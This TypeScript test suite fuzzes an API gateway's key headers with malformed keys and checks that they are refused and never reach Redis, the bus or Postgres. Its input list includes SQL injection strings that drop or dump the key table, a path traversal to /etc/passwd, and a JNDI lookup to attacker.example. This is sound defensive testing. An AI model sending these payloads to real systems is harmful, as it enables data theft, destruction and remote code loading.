import { keyCreated, keyResolve, keyResolveV1 } from "@codex/contracts";
import { connectBus } from "@codex/bus";
import { generateApiKey } from "@codex/kernel";
import { eventually } from "@codex/testkit";
import fc from "fast-check";
import { Redis } from "ioredis";
import { each, Tally, type Outcome, type Suite, type SuiteOptions } from "../suite.ts";
import { send, type Answer } from "../visitor.ts";
import type { World } from "../world.ts";

/**
 * SEC-32, SEC-06. Keys that are none, in every header that may hold one: refused, and no store hears of it. What the stores
 * heard is counted at the stores: every command of Redis (MONITOR), every question to the registry on the bus, every look at
 * the table of keys in Postgres. Two well-formed keys come first, so that a counter that counts nothing is seen.
 */

const keysPerCase = 100;

const good = (): string => generateApiKey("cx", "live");
const letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

/** One letter, or more, is not what it was. */
const garbled: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(fc.constant(0), fc.nat(), fc.nat()).map(([, at, letter]) => replaced(good(), at, letter)),
  fc.nat({ max: 40 }).map((cut) => good().slice(0, -1 - cut)),
  fc.string({ minLength: 1, maxLength: 8, unit: fc.constantFrom(...letters) }).map((tail) => good() + tail),
  fc.constantFrom(
    "' or 1=1 --",
    "'; drop table keys.api_key; --",
    "cx_live_' union select hash from keys.api_key --",
    "../../etc/passwd",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "cx_live_%00",
    "null",
    "undefined",
    "*",
    "x",
    "x".repeat(4_000),
  ),
  fc.string({
    minLength: 1,
    maxLength: 200,
    unit: fc.integer({ min: 0x21, max: 0x7e }).map((code) => String.fromCharCode(code)),
  }),
  fc.string({ minLength: 46, maxLength: 46, unit: fc.constantFrom(...letters) }).map((text) => `cx_live_${text}`),
);

function replaced(key: string, at: number, letter: number): string {
  // The brand and what follows it are letters like any other: changed, it is no key of ours.
  const place = at % key.length;
  const other =
    letters[(letters.indexOf(key.charAt(place)) + 1 + (letter % (letters.length - 1))) % letters.length] ?? "0";
  return key.slice(0, place) + other + key.slice(place + 1);
}

/** Where a client could put it. Only the first two are read. */
const carriers: readonly ((key: string) => Readonly<Record<string, string>>)[] = [
  (key) => ({ authorization: `Bearer ${key}` }),
  (key) => ({ "x-api-key": key }),
  (key) => ({ authorization: key }),
  (key) => ({ authorization: `Basic ${Buffer.from(key).toString("base64")}` }),
  (key) => ({ cookie: `key=${encodeURIComponent(key)}` }),
  (key) => ({ "api-key": key, "x-goog-api-key": key }),
];

interface Counters {
  read(): Promise<{ readonly redis: number; readonly bus: number; readonly postgres: number }>;
  close(): Promise<void>;
}

async function countStores(world: World): Promise<Counters> {
  const admin = new Redis(world.servers.admin.redis);
  const monitor = await admin.monitor();
  let redis = 0;
  // What a worker says by itself each second names no account.
  monitor.on("monitor", (_time: string, args: string[]) => {
    if (args.some((arg) => arg.startsWith("gw:lim:{"))) redis += 1;
  });
  const quiet = { debug: () => undefined, info: () => undefined, warn: () => undefined, error: () => undefined };
  const bus = await connectBus(
    { servers: [world.servers.admin.nats], name: "abuse-keys" },
    { logger: quiet, source: "abuse" },
  );
  let asked = 0;
  for (const { subject } of [keyResolve, keyResolveV1])
    bus.connection.subscribe(subject, { callback: () => void (asked += 1) });
  await bus.connection.flush();
  const looks = async (): Promise<number> => {
    const [row] = await world.query<{ looks: string }>(
      "select coalesce(seq_scan, 0) + coalesce(idx_scan, 0) as looks from pg_stat_user_tables where schemaname = 'keys' and relname = 'api_key'",
    );
    return Number(row?.looks ?? 0);
  };
  return {
    async read() {
      await bus.connection.flush();
      await admin.ping();
      return { redis, bus: asked, postgres: await looks() };
    },
    async close() {
      monitor.disconnect();
      admin.disconnect();
      await bus.drain();
    },
  };
}

async function run(world: World, options: SuiteOptions): Promise<readonly Outcome[]> {
  const counters = await countStores(world);
  try {
    const controls = await controlsOf(world, counters);
    return [controls, ...(await garbage(world, options, counters))];
  } finally {
    await counters.close();
  }
}

const ask = (world: World, headers: Readonly<Record<string, string>>, path = "/v1/key"): Promise<Answer> =>
  send(world.pool, { method: "GET", path, headers });

/** A key that is one, and one that has the form: the counters count. */
async function controlsOf(world: World, counters: Counters): Promise<Outcome> {
  const tally = new Tally("SEC-32 the counters count: a key that is good, and one that has only the form");
  const before = await counters.read();
  const owner = await world.customer();
  const { secret } = await owner.must(keyCreated, "POST", "/api/keys", { name: "control" });
  const served = await ask(world, { authorization: `Bearer ${secret}` });
  const unknown = await ask(world, { authorization: `Bearer ${good()}` });
  tally.check(served.status === 200, () => `the good key answered ${String(served.status)}: ${served.text}`);
  tally.check(unknown.status === 401, () => `the unknown key answered ${String(unknown.status)}`);
  const counted = await eventually(
    async () => {
      const now = await counters.read();
      const all = now.redis > before.redis && now.bus >= before.bus + 2 && now.postgres >= before.postgres + 2;
      return all ? now : undefined;
    },
    { timeoutMs: 30_000, what: "the stores to have heard of two keys" },
  ).catch(() => undefined);
  tally.check(counted !== undefined, () => "a counter counts nothing");
  await quietSince(counters);
  return tally.outcome();
}

/** Postgres tells its counts a second late: until two looks agree. */
async function quietSince(
  counters: Counters,
): Promise<{ readonly redis: number; readonly bus: number; readonly postgres: number }> {
  let last = await counters.read();
  return eventually(
    async () => {
      const now = await counters.read();
      const isSame = JSON.stringify(now) === JSON.stringify(last);
      last = now;
      return isSame ? now : undefined;
    },
    { timeoutMs: 60_000, everyMs: 2_500, what: "the stores to be quiet" },
  );
}

async function garbage(world: World, { seed, cases }: SuiteOptions, counters: Counters): Promise<readonly Outcome[]> {
  const refused = new Tally("SEC-32 what is no key is refused, and not repeated in the answer");
  const before = await quietSince(counters);
  const keys = fc.sample(garbled, { seed, numRuns: cases * keysPerCase });
  await each([...keys.entries()], 32, async ([index, key]) => {
    const carrier = carriers[index % carriers.length];
    if (!carrier) return;
    const answer = await ask(world, carrier(key), index % 3 === 0 ? "/v1/models" : "/v1/key");
    const isSaid = key.length > 8 && answer.text.includes(key);
    refused.check(
      (answer.status === 401 || answer.status === 400) && !isSaid,
      () => `${JSON.stringify(carrier(key)).slice(0, 200)} answered ${String(answer.status)}: ${answer.text}`,
    );
  });
  const after = await quietSince(counters);
  const stores = new Tally("SEC-32 and no store heard of it: Redis, the registry, the table of keys");
  for (const store of ["redis", "bus", "postgres"] as const)
    stores.check(after[store] === before[store], () => `${store} heard ${String(after[store] - before[store])} times`);
  const figures = (["redis", "bus", "postgres"] as const)
    .map((store) => `${store} ${String(after[store] - before[store])}`)
    .join(", ");
  return [refused.outcome(), stores.outcome(figures)];
}

export const keys: Suite = {
  name: "keys",
  description: "garbled API keys in every header: refused, and no store hears of it (SEC-32, SEC-06)",
  isDeterministic: true,
  run,
};
